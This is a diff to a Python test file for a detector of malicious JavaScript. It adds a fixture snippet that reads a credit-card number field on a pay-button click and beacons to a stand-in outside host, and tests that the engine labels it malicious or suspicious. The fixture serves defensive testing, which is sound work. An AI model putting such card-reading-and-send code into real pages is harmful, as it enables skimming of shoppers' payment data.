@@ -69,16 +69,31 @@ def test_hard_negative_fixtures_are_detonated_when_they_read_card_fields(engine:
 
 
 
+BESIDE = ("document.getElementById('pay').addEventListener('click', function () {\n"
+          "  var n = document.getElementById('cc_number').value.length;\n"
+          "  navigator.sendBeacon('https://collect.vendor-x.example/c', 'filled'); });\n")
+
+
 def test_card_reads_beside_an_unknown_send_are_detonated_although_malicious(
         engine: Engine) -> None:
-    """Malicious only by co-occurrence (no taint path, an unknown host): running the file
+    """Malicious only by co-occurrence (no taint path, an unknown host) in a script static
+    analysis could not read whole (here: a statement that does not parse): running the file
     settles it, as `merge` then weighs those findings against what it sent."""
-    code = (FIXTURES / "eval/blind/benign/b01_fraud_typing_cadence.js").read_text()
+    code = BESIDE + "var broken = ;\n"
     target = analyze_source(code, engine=engine)
     assert target.verdict.value == "malicious" and not any(f.flow for f in target.findings
                                                             if f.is_blocking)
     assert reasons_for(code, engine) == [
         "static analysis found card reads beside a send, with no path between them"]
+
+
+def test_card_reads_beside_a_send_in_a_script_read_whole_are_suspicious_and_detonated(
+        engine: Engine) -> None:
+    """Read whole, the script has no path from the card to the host: the co-occurrence is
+    lowered (policy/cooccurrence.py) and the file is detonated as a suspicious one."""
+    target = analyze_source(BESIDE, engine=engine)
+    assert target.verdict.value == "suspicious"
+    assert "static analysis found it suspicious" in reasons_for(BESIDE, engine)
 
 
 @pytest.mark.parametrize("code", [
